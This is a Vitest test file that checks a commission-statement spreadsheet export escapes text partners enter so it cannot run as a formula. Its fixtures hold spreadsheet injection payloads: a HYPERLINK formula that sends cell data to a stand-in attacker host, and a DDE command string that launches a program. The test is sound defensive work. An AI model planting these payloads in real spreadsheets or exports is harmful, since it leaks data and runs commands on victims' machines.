import { describe, expect, it } from 'vitest';
import { statementTotals, type StatementLine } from '@saakh/domain/partner-insights';
import { firstSheet } from '../../test/exports';
import { statementXlsx } from './statement-render';

const formula = '=HYPERLINK("https://evil.example/?d="&A1,"Click for your payout")';

const line: StatementLine = {
  kind: 'clawback',
  ledger_id: 2,
  clawback_id: 1,
  partner_id: 7,
  partner_name: formula,
  application_id: '@SUM(1+1)*cmd|" /C calc"!A0',
  lender_name: '+91 Lending',
  product: 'pl',
  disbursed_amount: 150000,
  disbursed_on: '2026-11-02',
  slab: null,
  base_amount: 3000,
  terms: { revenue_percent: 0.75, revenue_flat_fee: null },
  gross_share: 1125,
  split_role: 'own',
  split_percent: null,
  amount: -1125,
  gst: 0,
  tds: 0,
  net: -1125,
  status: 'paid',
  payout_reference: null,
  paid_on: null,
  reason: '-2+3',
};

describe('the commission statement workbook', () => {
  it('writes partner-entered text that a spreadsheet would run as a formula as plain text', async () => {
    const sheet = await firstSheet(
      await statementXlsx(
        {
          month: '2026-11',
          partner_name: formula,
          gst_percent: 18,
          tds_percent: 2,
          lines: [line],
          totals: statementTotals([line]),
        },
        'en',
      ),
    );
    const texts: string[] = [];
    sheet.eachRow((row) =>
      row.eachCell((cell) => {
        if (typeof cell.value === 'string') texts.push(cell.value);
        expect(cell.formula).toBeUndefined();
      }),
    );
    expect(texts.filter((text) => /^[=+\-@\t\r]/.test(text))).toEqual([]);
    expect(texts).toContain(`'${formula}`);
    expect(texts).toContain("'+91 Lending");
    // Numbers stay numbers, negative ones included.
    expect(sheet.getRow(5).values).toContain(-1125);
  });
});
